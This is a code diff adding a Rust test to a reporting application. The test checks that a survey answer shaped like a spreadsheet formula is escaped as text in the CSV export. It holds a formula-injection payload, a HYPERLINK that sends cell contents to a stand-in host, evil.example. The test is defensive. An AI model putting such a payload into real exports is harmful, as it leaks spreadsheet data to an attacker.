@@ -51,4 +51,30 @@ backends! {
             .send().await.unwrap().text().await.unwrap();
         assert!(feed.contains("BEGIN:VCALENDAR") && !feed.contains("evil.example"), "{feed}");
     }
+
+    async fn an_answer_that_looks_like_a_formula_is_exported_as_text(app) {
+        app.login(ADMIN).await;
+        let token = app.api_token().await;
+        let id = crate::reporting::submission_id(&app, "Teknologistatus 2025", "1804").await;
+        let path = format!("/api/v1/submissions/{id}");
+        let version = app.get(&path).await.json()["version"].as_i64().unwrap();
+        let formula = r#"=HYPERLINK("http://evil.example/?d="&A2,"x")"#;
+        let body = serde_json::json!({"version": version, "answers": {"trygghetsalarm_fast_leverandor": formula}, "submit": false});
+        let saved = app.send_json(Method::PUT, &path, &body, Some(&token)).await;
+        assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
+        let (version, now) = (saved.json()["version"].as_i64().unwrap(), app.now());
+        let round = app.db.run(move |conn| {
+            let row = samveis::reporting::store::submission(conn, id)?.unwrap();
+            let update = samveis::reporting::store::SubmissionUpdate {
+                state: samveis_domain::reporting::State::Submitted, answers: &row.answers, submitted_at: Some(now), reviewer_comment: "",
+            };
+            samveis::reporting::store::update_submission(conn, id, version, &update, now)?;
+            Ok::<_, samveis::db::StoreError>(row.round_id)
+        }).await.unwrap();
+        let csv = app.get(&format!("/rapportering/runder/{round}/eksport.csv")).await;
+        assert_eq!(csv.status, StatusCode::OK);
+        assert!(csv.body.contains("\"'=HYPERLINK("), "the formula is shown as text: {}", csv.body.lines().take(3).collect::<Vec<_>>().join("\n"));
+        assert!(!csv.body.contains(";=HYPERLINK") && !csv.body.contains(";\"=HYPERLINK"));
+    }
 }
+
